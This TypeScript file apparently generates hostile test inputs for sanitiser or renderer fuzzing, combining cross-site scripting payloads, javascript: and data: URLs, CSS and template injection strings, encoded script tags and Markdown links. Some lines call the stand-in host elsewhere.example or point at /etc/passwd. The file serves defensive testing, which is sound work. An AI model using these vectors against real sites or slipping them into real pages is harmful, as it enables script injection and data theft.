/** Texts that are code wherever somebody takes them for more than text: markup, addresses, styles, templates, Markdown. */
import type { Random } from './random.ts'

/** What it would be seen by: a mark of the window, a dialog, another address, a request to elsewhere. */
const PAYLOADS = [
  'window.ran=1',
  'alert(1)',
  "location='https://elsewhere.example/'",
  "fetch('https://elsewhere.example/')",
  'Function`window.ran=1```',
  'top.ran=1',
  "import('https://elsewhere.example/a.js')",
  "document.body.innerHTML=''",
  "open('https://elsewhere.example/')",
] as const

/** Out of what it may stand in. */
const OPENINGS = [
  '',
  '',
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</select>',
  '</svg>',
  '</template>',
  '</option>',
  '\\">',
  '&quot;>',
  '*/',
  '\n\n',
  '<!--',
  '<![CDATA[',
  '<x-hostile>',
] as const

const MARKUP = [
  '<script>@</script>',
  '<script src=https://elsewhere.example/a.js hostile></script>',
  '<img src=x hostile onerror="@">',
  '<IMG SRC=x oNeRrOr=@>',
  '<img/src=x/onerror=@>',
  '<img\tsrc=x\nonerror=@>',
  '<img src=https://elsewhere.example/pixel>',
  '<svg/onload=@>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><script>@</script>',
  '<svg><a xlink:href="javascript:@"><text y=20>x</text></a>',
  '<math><mtext><img src=x onerror=@>',
  '<iframe srcdoc="<script>@</script>">',
  '<iframe src="javascript:@">',
  '<object data="javascript:@">',
  '<embed src="javascript:@">',
  '<details open ontoggle=@>',
  '<video><source onerror=@>',
  '<audio src=x onerror=@>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<body onload=@>',
  '<marquee onstart=@>',
  '<a hostile href="javascript:@">click</a>',
  '<form action="javascript:@"><button>go</button></form>',
  '<button hostile formaction="javascript:@">go',
  '<x-hostile onpointerover=@ style=position:fixed;inset:0>',
  '<style>@import "https://elsewhere.example/a.css"</style>',
  '<style>*{display:none!important}</style>',
  '<div hostile style="background:url(//elsewhere.example/p)">',
  '<base href="https://elsewhere.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<link rel=stylesheet href=https://elsewhere.example/a.css>',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<template><img src=x onerror=@></template>',
  '<plaintext>',
  '<dialog open hostile>',
  '<table background=//elsewhere.example/p><td>',
  '<scr<script>ipt>@</scr</script>ipt>',
] as const

const ADDRESSES = [
  'javascript:@',
  'JaVaScRiPt:@',
  'java\tscript:@',
  '\u0001javascript:@',
  ' javascript:@',
  'javascript://%0a@',
  'vbscript:@',
  'data:text/html,<script>@</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd',
  '//elsewhere.example/@',
  'https://elsewhere.example/?@',
  'https://user:@elsewhere.example/',
  '\\\\elsewhere.example\\@',
  'view-source:javascript:@',
] as const

const STYLES = [
  'red;}*{display:none}/*@',
  'expression(@)',
  'url(https://elsewhere.example/@)',
  '}</style><script>@</script>',
  '\\3c script\\3e @',
  'position:fixed;inset:0;content:"@"',
  '@import url(https://elsewhere.example/@.css)',
  '--x:url(//elsewhere.example/@)',
] as const

const TEMPLATES = [
  '{{constructor.constructor("@")()}}',
  '${@}',
  '#{@}',
  '<%= @ %>',
  '{{@}}',
  '[[${@}]]',
  '{@}',
  '*{@}',
  '{%raw%}@',
  '@(@)',
  '<#assign x="@">',
] as const

const DISGUISED = [
  '&lt;script&gt;@&lt;/script&gt;',
  '&#60;script&#62;@',
  '&#x3c;script&#x3e;@',
  '%3Cscript%3E@%3C/script%3E',
  '%253Cscript%253E@',
  '\\u003cscript\\u003e@',
  '\\x3cscript\\x3e@',
  '＜script＞@＜/script＞',
  '+ADw-script+AD4-@',
  '‹script›@',
  '<\u200bscript>@</script>',
] as const

const MARKDOWN = [
  '[click](javascript:@)',
  '![x](https://elsewhere.example/p?@)',
  '<https://elsewhere.example/@>',
  '`@` **bold**',
  '# @',
  '| @ | b |',
  '```\n@\n```',
  '[x]: javascript:@',
  '- @\n- b',
  '<javascript:@>',
] as const

const draws =
  (texts: readonly [string, ...string[]], openings: readonly [string, ...string[]] = ['']) =>
  (random: Random): string => {
    const payload = random.pick(PAYLOADS)
    const text = random.pick(texts).replace(/@(?!import)/g, () => payload)
    return random.pick(openings) + text
  }

export const hostileMarkup = [
  draws(MARKUP),
  draws(MARKUP, OPENINGS),
  draws(MARKUP, OPENINGS),
  draws(ADDRESSES),
  draws(STYLES, OPENINGS),
  draws(TEMPLATES),
  draws(DISGUISED, OPENINGS),
  draws(MARKDOWN),
] as const
